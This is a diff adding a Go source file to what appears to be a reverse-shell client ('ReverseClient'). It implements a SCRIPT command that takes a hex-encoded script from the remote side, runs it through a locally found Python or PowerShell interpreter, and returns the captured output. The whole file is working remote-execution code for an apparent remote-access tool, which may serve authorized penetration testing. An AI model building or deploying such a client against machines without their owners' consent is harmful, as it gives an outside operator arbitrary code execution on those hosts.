@@ -0,0 +1,116 @@
+package client
+
+import (
+	"bytes"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"os/exec"
+	"strings"
+
+	"github.com/frjcomp/gots/pkg/protocol"
+)
+
+// interpreter is a program that runs a script read from its stdin.
+type interpreter struct {
+	name string
+	args []string
+}
+
+// interpreters lists, per language, the programs tried in order.
+var interpreters = map[string][]interpreter{
+	"python": {
+		{"python3", []string{"-"}},
+		{"python", []string{"-"}},
+		{"py", []string{"-3", "-"}}, // Windows launcher
+	},
+	"powershell": {
+		{"pwsh", []string{"-NoProfile", "-NonInteractive", "-Command", "-"}},
+		{"powershell", []string{"-NoProfile", "-NonInteractive", "-Command", "-"}},
+	},
+}
+
+// lookPath finds programs; tests replace it.
+var lookPath = exec.LookPath
+
+// findInterpreter returns the path and arguments of the first interpreter
+// for lang found on the PATH.
+func findInterpreter(lang string) (string, []string, error) {
+	candidates, ok := interpreters[lang]
+	if !ok {
+		return "", nil, fmt.Errorf("unknown script language %q", lang)
+	}
+	var tried []string
+	for _, c := range candidates {
+		if path, err := lookPath(c.name); err == nil {
+			return path, c.args, nil
+		}
+		tried = append(tried, c.name)
+	}
+	return "", nil, fmt.Errorf("no %s interpreter found (tried %s)", lang, strings.Join(tried, ", "))
+}
+
+// cappedBuffer keeps the first max bytes written to it and drops the rest.
+type cappedBuffer struct {
+	buf       bytes.Buffer
+	max       int
+	truncated bool
+}
+
+func (b *cappedBuffer) Write(p []byte) (int, error) {
+	if room := b.max - b.buf.Len(); len(p) > room {
+		b.buf.Write(p[:max(room, 0)])
+		b.truncated = true
+		return len(p), nil
+	}
+	return b.buf.Write(p)
+}
+
+// handleScriptCommand runs SCRIPT <lang> <hex_script>: the script is fed to
+// the interpreter on stdin, so it needs no quoting for the client's shell.
+func (rc *ReverseClient) handleScriptCommand(command string) error {
+	parts := strings.SplitN(command, " ", 3)
+	var script []byte
+	err := errors.New("invalid script command")
+	if len(parts) == 3 {
+		script, err = hex.DecodeString(parts[2])
+	}
+	var path string
+	var args []string
+	if err == nil {
+		path, args, err = findInterpreter(parts[1])
+	}
+	if err != nil {
+		rc.writer.WriteString(fmt.Sprintf("Error: %v\n", err) + protocol.EndOfOutputMarker + "\n")
+		return rc.writer.Flush()
+	}
+	if parts[1] == "powershell" {
+		// With -Command - PowerShell reads the script like interactive input,
+		// where a multi-line statement only runs once a blank line follows
+		script = append(script, "\n\n"...)
+	}
+
+	cmd := exec.Command(path, args...)
+	cmd.Stdin = bytes.NewReader(script)
+	output := &cappedBuffer{max: protocol.MaxBufferSize}
+	cmd.Stdout = output
+	cmd.Stderr = output
+	rc.runningCmd = cmd
+	err = cmd.Run()
+	rc.runningCmd = nil
+
+	var resp strings.Builder
+	fmt.Fprintf(&resp, "OK %s\n", path)
+	resp.Write(output.buf.Bytes())
+	if output.truncated {
+		resp.WriteString("\n...output truncated\n")
+	}
+	if err != nil {
+		if out := output.buf.Bytes(); len(out) > 0 && out[len(out)-1] != '\n' {
+			resp.WriteString("\n")
+		}
+		fmt.Fprintf(&resp, "[%v]\n", err)
+	}
+	rc.writer.WriteString(resp.String() + protocol.EndOfOutputMarker + "\n")
+	return rc.writer.Flush()
+}